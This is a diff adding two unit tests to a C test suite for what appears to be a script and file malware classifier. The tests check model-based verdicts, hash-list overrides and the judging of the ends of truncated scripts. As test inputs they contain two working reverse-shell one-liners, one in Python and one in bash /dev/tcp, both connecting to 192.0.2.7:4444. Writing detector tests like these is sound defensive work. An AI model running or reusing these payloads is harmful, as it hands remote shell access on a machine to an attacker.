@@ -10,6 +10,7 @@
 
 #include "classify/assess.h"
 #include "elf_builder.h"
+#include "judge_model.h"
 
 static const char script[] = "#!/usr/bin/env python3\nprint('hello')\n";
 
@@ -232,6 +233,67 @@ the_beginning_of_a_file_never_makes_it_trusted(void **state)
 	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
 }
 
+/* A model, and what would only be a question for it, count for nothing on a trusted file. */
+static void
+a_script_is_judged_by_the_model(void **state)
+{
+	static const char code[] = "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.7',"
+				   "4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
+				   "pty.spawn('/bin/sh')";
+	struct lw_msg_assess request = {
+		.flags = LW_ASSESS_AS_SCRIPT, .language = LW_LANGUAGE_PYTHON};
+	struct lw_assessor *a = *state;
+	struct lw_assessment out;
+
+	a->model = judge_model_open();
+	assess_bytes(a, &request, code, sizeof(code) - 1, &out);
+	assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
+	assert_string_equal(out.model, lw_model_name(a->model));
+	assert_true(out.score > 0.9f);
+	assert_non_null(strstr(out.reasons[0], "socket"));
+	assess_bytes(a, &request, script, sizeof(script) - 1, &out);
+	assert_int_equal(out.verdict, LW_VERDICT_UNKNOWN);
+	assert_int_equal(out.reason_count, 0);
+	add_list(a, "ours", LW_VERDICT_TRUSTED, code, sizeof(code) - 1);
+	assess_bytes(a, &request, code, sizeof(code) - 1, &out);
+	assert_int_equal(out.verdict, LW_VERDICT_TRUSTED);
+	assert_string_equal(out.model, "");
+	add_list(a, "bad", LW_VERDICT_MALICIOUS, code, sizeof(code) - 1);
+	assess_bytes(a, &request, code, sizeof(code) - 1, &out);
+	assert_int_equal(strncmp(out.reasons[0], "hash list: bad", 14), 0);
+	assert_int_equal(strncmp(out.reasons[1], "model ", 6), 0);
+}
+
+/* Of a file far longer than what is kept: its end is judged, not what lay there before. */
+static void
+the_end_of_a_huge_script_is_judged(void **state)
+{
+	static const char end[] = "\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
+	const size_t sizes[] = {LW_CONTENT_TEXT_MAX - 1, LW_CONTENT_TEXT_MAX + 1,
+		LW_CONTENT_TEXT_MAX + LW_CONTENT_TEXT_TAIL / 2, 3 * LW_CONTENT_TEXT_MAX};
+	struct lw_msg_assess request = {
+		.flags = LW_ASSESS_AS_SCRIPT, .language = LW_LANGUAGE_SHELL};
+	struct lw_assessor *a = *state;
+	struct lw_assessment out;
+
+	a->model = judge_model_open();
+	for (size_t i = 0; i < LW_ARRAY_SIZE(sizes); i++) {
+		_cleanup_free_ char *text = malloc(sizes[i]);
+
+		for (size_t k = 0; k < sizes[i]; k++)
+			text[k] = "echo fine\n"[k % 10];
+		assess_bytes(a, &request, text, sizes[i], &out);
+		assert_true(out.verdict < LW_VERDICT_MALICIOUS);
+		memcpy(&text[sizes[i] - sizeof(end)], end, sizeof(end) - 1);
+		assess_bytes(a, &request, text, sizes[i], &out);
+		assert_int_equal(
+			a->content.text_length, LW_MIN(sizes[i], (size_t)LW_CONTENT_TEXT_MAX));
+		assert_memory_equal(&a->content.text[a->content.text_length - sizeof(end)], end,
+			sizeof(end) - 1);
+		assert_int_equal(out.verdict, LW_VERDICT_MALICIOUS);
+	}
+}
+
 static void
 what_cannot_be_read_says_so(void **state)
 {
@@ -263,6 +325,8 @@ main(void)
 		TEST(malicious_wins_over_trusted),
 		TEST(the_captured_bytes_are_looked_up_too),
 		TEST(the_beginning_of_a_file_never_makes_it_trusted),
+		TEST(a_script_is_judged_by_the_model),
+		TEST(the_end_of_a_huge_script_is_judged),
 		TEST(what_cannot_be_read_says_so),
 	};
 
